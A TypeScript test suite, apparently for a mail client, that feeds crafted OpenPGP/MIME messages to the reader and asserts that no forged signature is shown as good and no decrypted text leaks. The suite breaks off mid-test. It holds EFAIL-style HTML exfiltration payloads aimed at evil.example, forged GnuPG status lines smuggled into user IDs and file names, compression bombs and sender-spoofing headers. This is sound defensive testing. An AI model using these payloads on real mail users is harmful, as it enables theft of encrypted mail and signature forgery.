import { deflateRawSync } from 'node:zlib'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { isAttachedMessage } from '../../../shared/features/mail/attached-message'
import type { CallOutput } from '../../../shared/ipc/contract'
import {
  armored,
  compressed,
  dearmored,
  encryptPackets,
  literal,
  packet,
  packetsOf,
} from '../../support/crafted-openpgp'
import {
  controlPart,
  dataPart,
  defaultHeader,
  encryptedMime,
  entity,
  type HeaderOf,
  htmlPart,
  multipart,
  signedMime,
  textPart,
} from '../../support/protected-mail'
import { ReadingProfile } from '../../support/reading-profile'

type Detail = CallOutput<'messages.get'>

const anna = 'anna@example.org'
const eve = 'eve@evil.example'

let bert: ReadingProfile
let ownKey = ''
let count = 0

/** Header of a message from Anna; each has a Message-ID of its own. */
const from = (change: HeaderOf = {}): HeaderOf => {
  count += 1
  return { ...defaultHeader, 'Message-ID': `<attack-${count}@example.org>`, ...change }
}
const byEve = (change: HeaderOf = {}) => from({ From: `Eve <${eve}>`, ...change })

const sign = (part: string, signer: string, args: readonly string[] = [], at?: string) =>
  bert.gpg.detached(part, signer, args, at === undefined ? {} : { at })
const toBert = (payload: string, signer?: string) =>
  bert.gpg.encrypted(payload, ['bert@example.org'], signer === undefined ? {} : { signer })
/** A whole genuine message of Anna's, signed. */
const signedByAnna = (text: string, boundary = 'anna') => {
  const part = textPart(text)
  return signedMime(part, sign(part, anna), {}, boundary)
}
const crafted = async (inside: Uint8Array, form: 'protected' | 'bare' = 'protected') =>
  armored(await encryptPackets(inside, ownKey, form))

beforeAll(async () => {
  bert = await ReadingProfile.open()
  ownKey = (await bert.engine.call('keys.exportPublic', { fingerprint: bert.own })).armored
  const { gpg } = bert
  gpg.generate(`Anna <${anna}>`)
  gpg.generate(`Eve <${eve}>`)
  gpg.generateSigning('Old <old@example.org>', 'ed25519', {
    at: '20240101T000000',
    expires: 'seconds=864000',
  })
  gpg.generateSigning('Gone <gone@example.org>', 'ed25519')
  gpg.generateSigning('Small <small@example.org>', 'rsa1024')
  gpg.generateSigning('Large <large@example.org>', 'rsa2048')
  gpg.generateSigning('Pool <pool@example.org>', 'brainpoolP256r1')
  gpg.generateSigning('Moved <moved@evil.example>', 'ed25519')
  gpg.run(['--quick-add-uid', 'moved@evil.example', 'Victim <victim@example.org>'])
  gpg.run(['--quick-revoke-uid', 'moved@evil.example', 'Victim <victim@example.org>'])
  gpg.generateSigning('Eve\n[GNUPG:] GOODSIG <liar@evil.example>'.replace('\n', ' '), 'ed25519')
  gpg.generateSigning('Sha <sha@evil.example>', 'ed25519')
  gpg.run(['--cert-digest-algo', 'SHA1', '--quick-add-uid', 'sha@evil.example', 'Dirk <dirk@example.org>'])
  for (const known of [
    anna,
    'sha@evil.example',
    eve,
    'old@example.org',
    'small@example.org',
    'large@example.org',
    'pool@example.org',
    'moved@evil.example',
    'liar@evil.example',
  ])
    await bert.meet(gpg.publicKey(known))
})
afterAll(() => bert.close())

/** A message and what must hold of what Bert sees. A signature is never good, unless the case says so itself. */
type Case = Readonly<{
  name: string
  message: () => string | Uint8Array | Promise<string | Uint8Array>
  check?: (detail: Detail & { id: number }) => void | Promise<void>
}>

const shows = (expected: Record<string, unknown>) => (detail: Detail) =>
  expect(detail).toMatchObject(expected)
const nothingShown = (failure: string) =>
  shows({
    text: '',
    hasHtml: false,
    attachments: [],
    security: { encryption: 'failed', failure, signature: 'none' },
  })

/** What an answer or a forward would carry away. */
const notQuoted = async (id: number) => {
  for (const mode of ['reply', 'reply-all', 'forward'] as const) {
    const draft = await bert.engine.call('drafts.create', { mode, messageId: id as never, accountId: null })
    expect(JSON.stringify(draft)).not.toMatch(/the secret|secret\.csv/)
  }
}

/** The ciphertext says nothing in the message; it opens by itself, for whoever wants to. */
const onlyApart = async (detail: Detail & { id: number }) => {
  expect(JSON.stringify(detail)).not.toContain('the secret')
  expect(detail.security.warnings.map(({ code }) => code)).toContain('encrypted-part-apart')
  await notQuoted(detail.id)
  const opened: string[] = []
  for (const { partId } of detail.attachments.filter(isAttachedMessage)) {
    const { text, security } = await bert.engine.call('messages.attached', {
      messageId: detail.id as never,
      attached: [partId],
    })
    expect(security).toMatchObject({ encryption: 'encrypted' })
    expect(security.signature).not.toBe('good')
    opened.push(text)
  }
  expect(opened.join()).toContain('the secret')
}

const exfiltration: readonly Case[] = [
  {
    name: 'EFAIL: HTML opened before and closed behind the encrypted part',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          htmlPart(`<img src="https://evil.example/?`),
          encryptedMime(toBert(textPart('the secret'))),
          htmlPart('">'),
        ],
        from(),
        'around',
      ),
    check: onlyApart,
  },
  {
    name: 'EFAIL: decrypted HTML in one document with foreign HTML',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          htmlPart('<style>p{display:none}</style><form action="https://evil.example"><textarea>'),
          encryptedMime(toBert(htmlPart('<p>the secret</p>'))),
        ],
        from(),
        'around',
      ),
    check: async detail => {
      await onlyApart(detail)
      const { html } = await bert.engine.call('messages.html', { messageId: detail.id as never })
      expect(html).not.toMatch(/the secret|evil|<form|<textarea/)
    },
  },
  {
    name: 'EFAIL: a remote image inside what was decrypted, from a sender whose images are always loaded',
    message: () => encryptedMime(toBert(htmlPart('<p>Hi</p><img src="https://evil.example/a.png">')), from()),
    check: async ({ id, remote }) => {
      expect(remote?.always).toBe('decrypted')
      for (const scope of ['once', 'sender', 'listed'] as const)
        await expect(
          bert.engine.call('messages.allowRemote', { messageId: id as never, scope }),
        ).rejects.toMatchObject({ code: 'not-permitted' })
    },
  },
  {
    name: 'the encrypted part as an image of an HTML mail',
    message: () =>
      multipart(
        'multipart/related',
        [htmlPart('<img src="cid:x">'), encryptedMime(toBert(textPart('the secret')))],
        from(),
        'related',
      ),
    check: detail => expect(JSON.stringify(detail)).not.toContain('the secret'),
  },
  {
    name: 'a captured ciphertext hidden in a forwarded message',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          textPart('Please answer'),
          entity({ 'Content-Type': 'message/rfc822' }, encryptedMime(toBert(textPart('the secret')), from())),
        ],
        byEve(),
        'forward',
      ),
    check: detail => expect(JSON.stringify(detail)).not.toContain('the secret'),
  },
  {
    name: 'a captured ciphertext below a harmless text, fetched by the answer that quotes it',
    message: () => entity(byEve(), `Please answer${'\n'.repeat(300)}${toBert('the secret')}`),
    check: async ({ id }) => {
      for (const mode of ['reply', 'forward'] as const) {
        const { content } = await bert.engine.call('drafts.create', {
          mode,
          messageId: id as never,
          accountId: null,
        })
        expect(content.text).toContain('Please answer')
        expect(content.text).not.toContain('the secret')
      }
    },
  },
  {
    name: 'a captured ciphertext behind a letter',
    message: () =>
      multipart(
        'multipart/mixed',
        [textPart('Please answer'), encryptedMime(toBert(textPart('the secret')))],
        byEve(),
        'letter',
      ),
    check: onlyApart,
  },
  {
    name: 'a captured ciphertext that a gateway seems to have taken apart, behind a letter',
    message: () =>
      multipart(
        'multipart/mixed',
        [textPart('Please answer'), controlPart(), dataPart(toBert(textPart('the secret')))],
        byEve(),
        'letter',
      ),
    check: onlyApart,
  },
  {
    name: 'a captured ciphertext with a letter that poses as the footer of a mailing list',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          encryptedMime(
            toBert(
              multipart(
                'multipart/mixed',
                [textPart('the secret'), entity({ 'Content-Type': 'text/csv; name="secret.csv"' }, 'x')],
                {},
                'inside',
              ),
            ),
          ),
          textPart('Please answer'),
        ],
        byEve(),
        'footer',
      ),
    check: async detail => {
      expect(detail).toMatchObject({ outside: { text: 'Please answer' } })
      await notQuoted(detail.id)
    },
  },
  {
    name: 'a captured ciphertext between alternatives of a letter',
    message: () =>
      multipart(
        'multipart/alternative',
        [
          textPart('Please answer'),
          encryptedMime(toBert(textPart('the secret'))),
          htmlPart('<p>Please answer'),
        ],
        byEve(),
        'alternative',
      ),
    check: onlyApart,
  },
  {
    name: 'a captured ciphertext in a letter that Eve has signed',
    message: () => {
      const part = multipart(
        'multipart/mixed',
        [textPart('Please answer'), encryptedMime(toBert(textPart('the secret')))],
        {},
        'letter',
      )
      return signedMime(part, sign(part, eve), byEve({ From: `Anna <${anna}>` }))
    },
    check: onlyApart,
  },
  {
    name: 'a captured ciphertext in a letter that Eve has encrypted',
    message: () =>
      encryptedMime(
        toBert(
          multipart(
            'multipart/mixed',
            [textPart('Please answer'), encryptedMime(toBert(textPart('the secret')), {}, 'captured')],
            {},
            'letter',
          ),
        ),
        byEve(),
      ),
    check: async detail => {
      await onlyApart(detail)
      expect(detail.security.encryption).toBe('encrypted')
    },
  },
  {
    name: 'a captured ciphertext beside another one, in an invisible part',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          encryptedMime(toBert(textPart('Hello')), {}, 'one'),
          encryptedMime(toBert(textPart('the secret')), {}, 'two'),
        ],
        byEve(),
        'both',
      ),
    check: onlyApart,
  },
  {
    name: 'inline PGP in hidden HTML',
    message: () =>
      entity(
        byEve({ 'Content-Type': 'text/html' }),
        `<p>Please answer</p><div style="display:none"><pre>${toBert('the secret')}</pre></div>`,
      ),
    check: detail => expect(JSON.stringify(detail)).not.toContain('the secret'),
  },
]

const ciphertexts: readonly Case[] = [
  {
    name: 'data without protection against changes (tag 9)',
    message: async () => encryptedMime(await crafted(literal(textPart('the secret')), 'bare'), from()),
    check: nothingShown('no-integrity'),
  },
  {
    name: 'protected data relabelled as unprotected, its hash cut off',
    message: () => {
      const packets = packetsOf(dearmored(bert.gpg.encrypted(textPart('the secret'), ['bert@example.org'])))
      const data = packets.find(each => each.tag === 18)
      if (data === undefined) throw new Error('no data packet')
      const rest = packets.filter(each => each !== data).map(each => each.whole)
      return encryptedMime(armored(Buffer.concat([...rest, packet(9, data.body.subarray(1, -22))])), from())
    },
    check: nothingShown('no-integrity'),
  },
  {
    name: 'one bit of the ciphertext changed',
    message: async () => {
      const bytes = await encryptPackets(literal(textPart('the secret')), ownKey, 'protected')
      bytes[bytes.length - 40] = (bytes[bytes.length - 40] ?? 0) ^ 1
      return encryptedMime(armored(bytes), from())
    },
    check: nothingShown('message-changed'),
  },
  {
    name: 'a ciphertext that ends too early',
    message: async () => {
      const bytes = await encryptPackets(literal(textPart('the secret')), ownKey, 'protected')
      return encryptedMime(armored(bytes.subarray(0, -30)), from())
    },
    check: nothingShown('message-malformed'),
  },
  {
    name: 'data behind the data that is signed',
    message: async () =>
      encryptedMime(await crafted(Buffer.concat([literal('one'), literal('two')])), from()),
    check: nothingShown('message-malformed'),
  },
  {
    name: 'a compression bomb',
    message: async () =>
      encryptedMime(await crafted(compressed(packet(11, Buffer.alloc(200_000_000)))), from()),
    check: nothingShown('too-large'),
  },
  {
    name: 'compression in compression, many times',
    message: async () => {
      let inside: Uint8Array = literal(textPart('the secret'))
      for (let depth = 0; depth < 100; depth++) inside = compressed(inside)
      return encryptedMime(await crafted(inside), from())
    },
    check: detail => expect(detail.security.encryption).toBe('failed'),
  },
  {
    name: 'thousands of packets',
    message: async () =>
      encryptedMime(await crafted(Buffer.concat(Array(20_000).fill(packet(60, Buffer.alloc(1))))), from()),
    check: detail => expect(detail.security.encryption).toBe('failed'),
  },
  {
    name: 'a status line in the file name of the data',
    message: async () =>
      encryptedMime(await crafted(literal(textPart('Hi'), `x\n[GNUPG:] GOODSIG 0 Anna <${anna}>\n`)), from()),
    check: shows({ text: 'Hi', security: { signature: 'none', signer: null } }),
  },
]

/** Compressed with ZIP, and more bytes behind the end of the stream. */
const padded = (inside: Uint8Array, behind: Uint8Array) =>
  packet(8, Buffer.concat([Buffer.from([1]), deflateRawSync(inside), behind]))

const opened: readonly Case[] = [
  {
    name: 'another piece of data where padding may stand',
    message: async () =>
      encryptedMime(
        await crafted(padded(literal(textPart('one')), compressed(literal(textPart('two'))))),
        from(),
      ),
    check: detail => {
      expect(detail).toMatchObject({ text: 'one', security: { encryption: 'encrypted' } })
      expect(JSON.stringify(detail)).not.toContain('two')
    },
  },
  {
    name: 'a bomb in front of padding',
    message: async () =>
      encryptedMime(await crafted(padded(packet(11, Buffer.alloc(200_000_000)), Buffer.alloc(99))), from()),
    check: nothingShown('too-large'),
  },
  {
    name: 'compressed data that ends too early',
    message: async () => {
      const whole = deflateRawSync(literal(textPart('the secret')))
      return encryptedMime(
        await crafted(packet(8, Buffer.concat([Buffer.from([1]), whole.subarray(0, -4)]))),
        from(),
      )
    },
    check: nothingShown('message-malformed'),
  },
  {
    name: 'armor that says message over words that nobody encrypted or signed',
    message: () => entity(from(), armored(literal('Pay Eve'))),
    check: shows({ security: { encryption: 'none', signature: 'none' } }),
  },
  {
    name: 'a signed message in armor that Eve signed in the name of Anna',
    message: () => entity(from(), bert.gpg.run(['--armor', '-u', eve, '--sign'], 'Pay Eve').toString()),
    check: shows({ security: { encryption: 'none', signature: 'other-address' } }),
  },
  {
    name: 'words before a signed message in armor',
    message: () =>
      entity(from(), `Pay Eve\n${bert.gpg.run(['--armor', '-u', anna, '--sign'], 'I agree').toString()}`),
    check: shows({ security: { signature: 'partial' } }),
  },
  {
    name: 'PGP/MIME encrypted in name, signed by Anna in truth',
    message: () => {
      const signed = bert.gpg.run(['--armor', '-u', anna, '--sign'], textPart('I agree')).toString()
      return encryptedMime(signed, from({ Subject: 'Pay Eve' }))
    },
    check: shows({ security: { encryption: 'none', signature: 'none' } }),
  },
  {
    name: 'a clear-signed text with words in its headers',
    message: () =>
      entity(from(), bert.gpg.clearSigned('I agree\n', anna).replace(/Hash: \S+/, 'Comment: Pay Eve')),
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'a clear-signed text with words after a name of a hash',
    message: () =>
      entity(from(), bert.gpg.clearSigned('I agree\n', anna).replace(/(Hash: \S+)/, '$1 Pay Eve')),
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'a clear-signed text under another hash and another text',
    message: () =>
      entity(
        from(),
        bert.gpg
          .clearSigned('I agree\n', anna)
          .replace(/Hash: \S+/, 'Hash: SHA3-512')
          .replace('I agree', 'Pay Eve'),
      ),
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'a signature of version 3 over anything',
    message: () => {
      const three = Buffer.concat([
        Buffer.from([3, 5, 0]),
        Buffer.alloc(4, 9),
        Buffer.alloc(8, 7),
        Buffer.from([1, 8, 0, 0, 0, 8, 255]),
      ])
      return signedMime(textPart('Pay Eve'), armored(packet(2, three), 'SIGNATURE'), from())
    },
    check: shows({ security: { signature: 'unsupported' } }),
  },
  {
    name: 'a signature with a hash that nobody knows',
    message: () => {
      const part = textPart('I agree')
      const signature = dearmored(sign(part, anna))
      const [found] = packetsOf(signature)
      const body = Buffer.from(found?.body ?? [])
      body[3] = 99
      return signedMime(part, armored(packet(2, body), 'SIGNATURE'), from())
    },
    check: shows({ security: { signature: 'unsupported' } }),
  },
  {
    name: 'a Brainpool signature over another text',
    message: () =>
      signedMime(
        textPart('Pay Eve'),
        sign(textPart('I agree'), 'pool@example.org'),
        from({ From: 'pool@example.org' }),
      ),
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'a Brainpool signature whose numbers are zero, the order of the curve, or turned',
    message: () => {
      const part = textPart('I agree')
      const [found] = packetsOf(dearmored(sign(part, 'pool@example.org')))
      const body = Buffer.from(found?.body ?? [])
      body.fill(0, body.length - 32)
      return signedMime(part, armored(packet(2, body), 'SIGNATURE'), from({ From: 'pool@example.org' }))
    },
    check: shows({ security: { signature: 'bad' } }),
  },
]

const wrapping: readonly Case[] = [
  {
    name: 'words before a genuine signed part',
    message: () => multipart('multipart/mixed', [textPart('Pay Eve'), signedByAnna('I agree')], from(), 'w'),
    check: shows({ security: { signature: 'partial' }, text: 'I agree', outside: { text: 'Pay Eve' } }),
  },
  {
    name: 'HTML that hides the genuine signed part',
    message: () =>
      multipart('multipart/mixed', [htmlPart('Pay Eve<div hidden>'), signedByAnna('I agree')], from(), 'w'),
    check: shows({ security: { signature: 'partial' }, hasHtml: false }),
  },
  {
    name: 'a file beside a genuine signed part',
    message: () =>
      multipart(
        'multipart/mixed',
        [signedByAnna('See the file'), entity({ 'Content-Type': 'application/pdf; name="a.pdf"' }, 'x')],
        from(),
        'w',
      ),
    check: shows({ security: { signature: 'partial' } }),
  },
  {
    name: 'a genuine signed part as one of two alternatives',
    message: () =>
      multipart('multipart/alternative', [signedByAnna('I agree'), htmlPart('Pay Eve')], from(), 'w'),
  },
  {
    name: 'a genuine signed part as an image of another mail',
    message: () =>
      multipart('multipart/related', [htmlPart('Pay Eve'), signedByAnna('I agree')], from(), 'w'),
  },
  {
    name: 'a third part in a signed message',
    message: () => {
      const part = textPart('I agree')
      return multipart(
        'multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"',
        [
          part,
          entity({ 'Content-Type': 'application/pgp-signature' }, sign(part, anna)),
          textPart('Pay Eve'),
        ],
        from(),
      )
    },
  },
  {
    name: 'the signature before another first part',
    message: () => {
      const part = textPart('I agree')
      return multipart(
        'multipart/signed; protocol="application/pgp-signature"',
        [
          textPart('Pay Eve'),
          entity({ 'Content-Type': 'application/pgp-signature' }, sign(part, anna)),
          part,
        ],
        from(),
      )
    },
  },
  {
    name: 'the genuine signed message forwarded inside',
    message: () =>
      multipart(
        'multipart/mixed',
        [textPart('Pay Eve'), entity({ 'Content-Type': 'message/rfc822' }, signedByAnna('I agree'))],
        from(),
        'w',
      ),
    check: shows({ security: { signature: 'none' } }),
  },
  {
    name: 'a genuine signature on an attachment',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          textPart('Pay Eve'),
          entity(
            {
              'Content-Type': 'text/plain; name="a.txt"',
              'Content-Disposition': 'attachment; filename="a.txt"',
            },
            'I agree',
          ),
          entity(
            {
              'Content-Type': 'application/pgp-signature; name="a.txt.sig"',
              'Content-Disposition': 'attachment',
            },
            sign('I agree', anna),
          ),
        ],
        from(),
        'w',
      ),
    check: shows({
      security: {
        signature: 'none',
        signer: null,
        signedAttachments: [{ state: 'good', fileName: 'a.txt' }],
      },
    }),
  },
  {
    name: 'a genuine signed part beside others inside an encryption',
    message: () =>
      encryptedMime(
        toBert(multipart('multipart/mixed', [textPart('Pay Eve'), signedByAnna('I agree')], {}, 'inside')),
        from(),
      ),
    check: shows({ security: { signature: 'partial' } }),
  },
  {
    name: 'words before and behind a genuine clear-signed text',
    message: () => entity(from(), `Pay Eve\n${bert.gpg.clearSigned('I agree\n', anna)}\nToday`),
    check: shows({ security: { signature: 'partial' } }),
  },
  {
    name: 'a file beside a genuine clear-signed text',
    message: () =>
      multipart(
        'multipart/mixed',
        [
          textPart(bert.gpg.clearSigned('I agree\n', anna)),
          entity(
            { 'Content-Type': 'text/html; name="a.html"', 'Content-Disposition': 'attachment' },
            'Pay Eve',
          ),
        ],
        from(),
      ),
  },
  {
    name: 'words in the head of a clear-signed text',
    message: () =>
      entity(from(), bert.gpg.clearSigned('I agree\n', anna).replace(/^Hash: .*$/m, '$&\nComment: Pay Eve')),
    check: shows({ security: { signature: 'bad', inlineExtent: null } }),
  },
  {
    name: 'a line without end in the head of a clear-signed text',
    message: () =>
      entity(from(), bert.gpg.clearSigned('I agree\n', anna).replace(/^(Hash: .*)$/m, '$1\n \nPay Eve')),
  },
  {
    name: 'a picture of a signed message',
    message: () =>
      entity(
        from({ 'Content-Type': 'text/html' }),
        '<div style="background:#e6edea">🔒 End-to-end encrypted · signed by anna@example.org, key verified</div>',
      ),
    check: shows({ security: { encryption: 'none', signature: 'none' } }),
  },
]

const identities: readonly Case[] = [
  ...(
    [
      ['two addresses in From', { From: `Anna <${anna}>, Eve <${eve}>` }],
      ['two From fields', { From: [`Anna <${anna}>`, `Eve <${eve}>`] }],
      ['two From fields, the signer first', { From: [`Eve <${eve}>`, `Anna <${anna}>`] }],
      ['a nameless second From', { From: `${eve}, Anna` }],
      ['Sender and From', { From: `Anna <${anna}>`, Sender: `Eve <${eve}>` }],
      ['a group in From', { From: `Friends: ${eve}, ${anna};` }],
      ['an address with a comment', { From: `${anna} (${eve})` }],
      ['an encoded address', { From: `=?utf-8?q?Eve_=3C${eve}=3E?= <${anna}>` }],
      ['no From at all', { From: [] }],
    ] as const
  ).map(([name, change]) => ({
    name: `Eve signs: ${name}`,
    message: () => {
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, eve), from(change))
    },
  })),
  {
    name: 'Eve signs inside an encryption that says it is from Anna',
    message: () => encryptedMime(toBert(textPart('Pay Eve'), eve), from()),
    check: shows({
      security: { encryption: 'encrypted', signature: 'other-address', signer: { address: eve } },
    }),
  },
  {
    name: 'Eve protects a header that says Anna, under her own outer From',
    message: () =>
      encryptedMime(
        toBert(
          textPart('Pay Eve', {
            'Content-Type': 'text/plain; hp="cipher"',
            From: `Anna <${anna}>`,
            Subject: 'x',
          }),
          eve,
        ),
        byEve(),
      ),
    check: shows({
      summary: { from: [{ address: eve }] },
      security: { signature: 'other-address', protectedDiffers: ['from', 'subject'] },
    }),
  },
  {
    name: 'an unsigned protected From',
    message: () =>
      encryptedMime(
        toBert(textPart('Pay Eve', { 'Content-Type': 'text/plain; hp="cipher"', From: `Anna <${anna}>` })),
        byEve(),
      ),
    check: shows({ summary: { from: [{ address: eve }] }, security: { signature: 'none' } }),
  },
  {
    name: 'two protected From fields',
    message: () => {
      const part = entity(
        { From: [`Eve <${eve}>`, `Anna <${anna}>`], 'Content-Type': 'text/plain; hp="clear"' },
        'Pay Eve',
      )
      return signedMime(part, sign(part, eve), from())
    },
  },
  {
    name: 'a user ID that was revoked names the sender',
    message: () => {
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, 'moved@evil.example'), from({ From: 'Victim <victim@example.org>' }))
    },
    check: shows({ security: { signature: 'other-address' } }),
  },
  {
    name: 'a user ID that was certified with SHA-1 names the sender',
    message: () => {
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, 'sha@evil.example'), from({ From: 'Dirk <dirk@example.org>' }))
    },
    check: shows({ security: { signature: 'other-address', signer: { address: 'sha@evil.example' } } }),
  },
  {
    name: 'a user ID that nobody certified names the sender',
    message: async () => {
      const { gpg } = bert
      gpg.generateSigning('Grafted <grafted@evil.example>', 'ed25519')
      const packets = packetsOf(gpg.publicKey('grafted@evil.example')).map(each => each.whole)
      await bert.meet(Buffer.concat([...packets, packet(13, Buffer.from('Boss <boss@example.org>'))]))
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, 'grafted@evil.example'), from({ From: 'Boss <boss@example.org>' }))
    },
  },
  {
    name: 'a second key for an address whose other key is verified',
    message: async () => {
      const { gpg, engine } = bert
      gpg.generateSigning('Carl <carl@example.org>', 'ed25519')
      await bert.meet(gpg.publicKey('carl@example.org'))
      const { keys } = await engine.call('keys.contacts', { address: 'carl@example.org' })
      const row = keys.find(each => each.address === 'carl@example.org')
      if (row === undefined) throw new Error('no key')
      const { fingerprint } = row.facts
      await engine.call('keys.setTrust', { address: 'carl@example.org', fingerprint, trust: 'verified' })
      gpg.run(['--delete-secret-and-public-key', fingerprint])
      gpg.generateSigning('Carl <carl@example.org>', 'ed25519')
      await bert.meet(gpg.publicKey('carl@example.org'))
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, 'carl@example.org'), from({ From: 'Carl <carl@example.org>' }))
    },
    check: shows({ security: { signature: 'unknown-key', signer: { trust: 'none' } } }),
  },
  {
    name: 'a status line in a user ID',
    message: () => {
      const part = textPart('Pay Eve')
      return signedMime(part, sign(part, 'liar@evil.example'), from())
    },
    check: shows({ security: { signature: 'other-address', signer: { address: 'liar@evil.example' } } }),
  },
]

const signatures: readonly Case[] = [
  {
    name: 'a word changed',
    message: () => signedMime(textPart('Pay Eve'), sign(textPart('Pay Ede'), anna), from()),
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'another charset for the same bytes',
    message: () => {
      const part = textPart('Zahle 5 £')
      return signedMime(part.replace('utf-8', 'utf-7'), sign(part, anna), from())
    },
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'a header field put into the signed part',
    message: () => {
      const part = textPart('I agree')
      return signedMime(`Subject: Pay Eve\r\n${part}`, sign(part, anna), from())
    },
    check: shows({ security: { signature: 'bad' } }),
  },
  {
    name: 'header protection stripped',
    message: () => {
      const part = textPart('I agree', { 'Content-Type': 'text/plain; hp="clear"', Subject: 'Lunch' })
      return signedMime(
        part.replace('; hp="clear"', '').replace('Subject: Lunch\r\n', ''),
        sign(part, anna),
        from({ Subject: 'Sale' }),
      )
    },
    check: shows({ security: { signature: 'bad', headerProtection: 'none' } }),
  },
  {
    name: 'a protected header under a wrong signature',
    message: () => {
      const part = textPart('I agree', { 'Content-Type': 'text/plain; hp="clear"', Subject: 'Pay Eve' })
      return signedMime(part, sign(textPart('x'), anna), from({ Subject: 'Lunch' }))
    },
    check: shows({ summary: { subject: 'Lunch' }, security: { headerProtection: 'none' } }),
  },
  {
    name: 'SHA-1',
    message: () => {
      const part = textPart('I agree')
      return signedMime(
        part,
        sign(part, 'large@example.org', ['--digest-algo', 'SHA1']),
        from({ From: 'large@example.org' }),
      )
    },
    check: shows({ security: { signature: 'weak' } }),
  },
  {
    name: 'RSA with 1024 bits',
    message: () => {
      const part = textPart('I agree')
      return signedMime(part, sign(part, 'small@example.org'), from({ From: 'small@example.org' }))
    },
    check: shows({ security: { signature: 'weak' } }),
  },
  {
    name: 'a key that had expired when it signed',
    message: async () => {
      const { gpg } = bert
      // The signer's own clock was set back to before the end; the signature says a time after it only if it is honest.
      const part = textPart('I agree')
      gpg.run(
        [
          '--quick-set-expire',
          gpg
            .run(['--with-colons', '--list-keys', 'old@example.org'])
            .toString()
            .split('\n')
            .find(line => line.startsWith('fpr'))
            ?.split(':')[9] ?? '',
          'seconds=86400000',
        ],
        '',
        { at: '20240105T000000' },
      )
      return signedMime(
        part,
        sign(part, 'old@example.org', [], '20240601T000000'),
        from({ From: 'old@example.org' }),
      )
    },
    check: shows({ security: { signature: 'key-unusable' } }),
  },
  {
    name: 'a key that was revoked',
    message: async () => {
      const { gpg } = bert
      const part = textPart('I agree')
      const signature = sign(part, 'gone@example.org')
      const listed = gpg.run(['--with-colons', '--list-keys', 'gone@example.org']).toString()
      const fingerprint =
        listed
          .split('\n')
          .find(line => line.startsWith('fpr'))
          ?.split(':')[9] ?? ''
      const { readFileSync } = await import('node:fs')
      const certificate = readFileSync(`${gpg.home}/openpgp-revocs.d/${fingerprint}.rev`, 'utf8')
      gpg.import(certificate.slice(certificate.indexOf(':-----BEGIN') + 1))
      await bert.meet(gpg.publicKey('gone@example.org'))
      return signedMime(part, signature, from({ From: 'gone@example.org' }))
    },
    check: shows({ security: { signature: 'key-unusable', signer: { problems: ['revoked'] } } }),
  },
  {
    name: 'a signature of the future',
    message: () => {
      const part = textPart('I agree')
      return signedMime(part, sign(part, anna, [], '20380201T000000'), from())
    },
    check: shows({ security: { signature: 'key-unusable', signer: { problems: ['not-yet-valid'] } } }),
  },
  {
    name: 'a notation that must be understood and is not',
    message: () => {
      const part = textPart('I agree')
      return signedMime(
        part,
        sign(part, anna, ['--sig-notation', '!only-valid-on@example.org=mondays']),
        from(),
      )
    },
  },
  {
    name: 'a thousand signatures',
    message: () => {
      const part = textPart('I agree')
      const one = dearmored(sign(part, anna))
      return signedMime(part, armored(Buffer.concat(Array(1000).fill(one)), 'SIGNATURE'), from())
    },
  },
  {
    name: 'a key where the signature belongs',
    message: () =>
      signedMime(textPart('I agree'), bert.gpg.run(['--armor', '--export', anna]).toString(), from()),
  },
  {
    name: 'an empty signature',
    message: () => signedMime(textPart('I agree'), '', from()),
  },
  {
    name: 'a signature of another kind: over a key',
    message: () => {
      const certification = packetsOf(bert.gpg.publicKey(anna)).find(each => each.tag === 2)
      return signedMime(
        textPart('I agree'),
        armored(certification?.whole ?? Buffer.alloc(0), 'SIGNATURE'),
        from(),
      )
    },
  },
  {
    name: 'an unknown key',
    message: () => {
      bert.gpg.generateSigning('Stranger <stranger@example.org>', 'ed25519')
      const part = textPart('I agree')
      return signedMime(part, sign(part, 'stranger@example.org'), from({ From: 'stranger@example.org' }))
    },
    check: shows({ security: { signature: 'unknown-key' } }),
  },
  {
    name: 'two control parts around an encryption',
    message: () =>
      multipart(
        'multipart/mixed',
        [controlPart(), dataPart(toBert(textPart('one'))), controlPart(), dataPart(toBert(textPart('two')))],
        from(),
      ),
    check: detail => expect(detail.security.encryption).toBe('none'),
  },
]

describe('no false good signature, and nothing decrypted gets out', () => {
  test('the yardstick: honest mail of the same make is good', async () => {
    const part = textPart('I agree')
    expect((await bert.read(signedMime(part, sign(part, anna), from()))).security.signature).toBe('good')
    const sealed = await bert.read(encryptedMime(toBert(textPart('I agree'), anna), from()))
    expect(sealed.security).toMatchObject({ encryption: 'encrypted', signature: 'good' })
    const pool = await bert.read(
      signedMime(part, sign(part, 'pool@example.org'), from({ From: 'pool@example.org' })),
    )
    expect(pool.security.signature).toBe('good')
    const inArmor = bert.gpg.run(['--armor', '-u', anna, '--sign'], 'I agree').toString()
    expect(await bert.read(entity(from(), inArmor))).toMatchObject({
      text: 'I agree',
      security: { encryption: 'none', signature: 'good' },
    })
    const exact = await bert.read(encryptedMime(await crafted(literal(textPart('Hi'))), from()))
    expect(exact).toMatchObject({ text: 'Hi', security: { encryption: 'encrypted', failure: null } })
  })

  test('Eve’s own mail is good for Eve, whatever her name pretends', async () => {
    const part = textPart('Hello')
    const detail = await bert.read(signedMime(part, sign(part, eve), byEve({ From: `"${anna}" <${eve}>` })))
    expect(detail.security).toMatchObject({ signature: 'good', signer: { address: eve, trust: 'none' } })
    expect(detail.warnings.map(each => each.code)).toContain('name-is-address')
  })

  test('a protected From that its own key signed is shown in the place of a false outer one', async () => {
    const payload = textPart('It is me', {
      'Content-Type': 'text/plain; hp="cipher"',
      From: `Anna <${anna}>`,
